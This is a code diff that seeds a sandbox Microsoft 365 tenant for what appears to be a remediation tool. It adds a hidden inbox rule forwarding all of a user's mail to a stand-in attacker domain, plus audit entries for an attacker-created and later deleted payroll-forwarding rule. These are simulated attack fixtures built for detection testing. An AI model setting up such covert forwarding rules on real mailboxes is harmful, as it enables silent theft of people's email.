@@ -6,6 +6,8 @@ from dataclasses import dataclass, field
 from typing import Any
 
 from remediation.sandbox.alert_seed import demo_alerts
+from remediation.sandbox.audit_log import hours_ago
+from remediation.sandbox.inbox_rules import hidden_rule, system_rules
 from remediation.sandbox.state import (
     GLOBAL_ADMINISTRATOR,
     BlockBehaviour,
@@ -19,6 +21,8 @@ EVIL_DOMAIN = "evil-mail.example"
 LEGACY_MAILBOX = "$scanner@contoso.com"
 ALIAS = "sales@contoso.com"
 STORM_SIZE = 8
+HIDDEN_RULE_ID = 16752869479666417665  # Lynne's hidden forwarding rule (RuleIdentity)
+DELETED_RULE_ID = 17639250888751054849  # the rule the attacker created and deleted
 
 
 @dataclass(frozen=True)
@@ -85,13 +89,31 @@ def _lynne() -> SandboxUser:
         # Attackers favour rules with no name to speak of and no condition: all mail.
         _rule("AQAAAJ5dZqA=", "..", 1, {}, {
             "forwardTo": [collector], "markAsRead": True, "stopProcessingRules": False}),
-        _rule("AQAAAJ5dZqB=", "Invoices", 2, {"subjectContains": ["invoice"]}, {
+        _rule("AQAAAJ5dZqE=", "Invoices", 2, {"subjectContains": ["invoice"]}, {
             "moveToFolder": lynne.folder_id("RSS Feeds"), "markAsRead": True,
             "stopProcessingRules": True}),
-        _rule("AQAAAJ5dZqC=", "Newsletters", 3, {"subjectContains": ["newsletter"]}, {
+        _rule("AQAAAJ5dZqI=", "Newsletters", 3, {"subjectContains": ["newsletter"]}, {
             "moveToFolder": newsletters, "stopProcessingRules": False}),
     ]
+    # What Graph never shows: a hidden rule forwarding everything outside, and Exchange's own
+    # rules (junk e-mail, out of office, a delegate's meeting requests), which stay as they are.
+    lynne.exchange_rules = [
+        hidden_rule(lynne, ".", HIDDEN_RULE_ID, MarkAsRead=True, StopProcessingRules=True,
+                    ForwardTo=[f'"sync" [SMTP:sync@{EVIL_DOMAIN}]']),
+        *system_rules(lynne)]
     return lynne
+
+
+def _lynne_history(tenant: SandboxTenant) -> None:
+    """A rule the attacker created and deleted again: only the audit log remembers it."""
+    lynne = tenant.user("lynne.robbins@contoso.com")
+    tenant.audit_log.rule_change(lynne, "New-InboxRule", {
+        "Name": "Payroll", "SubjectContainsWords": "salary;payslip",
+        "ForwardTo": f"payroll-copy@{EVIL_DOMAIN}", "StopProcessingRules": "True"},
+        at=hours_ago(30))
+    tenant.audit_log.rule_change(lynne, "Remove-InboxRule", {"Identity": "Payroll"},
+                                 at=hours_ago(26),
+                                 object_id=f"{lynne.id}\\{DELETED_RULE_ID}")
 
 
 def _rule(rule_id: str, name: str, sequence: int, conditions: dict[str, Any],
@@ -120,6 +142,7 @@ def demo_tenant(*, with_alerts: bool = True, storm: bool = True) -> SandboxTenan
         user = tenant.add_user(seeded.user)
         if seeded.blocked and user.address not in held_back:
             tenant.block(seeded.block_as or user.address, behaviour=seeded.behaviour)
+    _lynne_history(tenant)
     if with_alerts:
         for raw in demo_alerts():
             tenant.add_alert(raw)
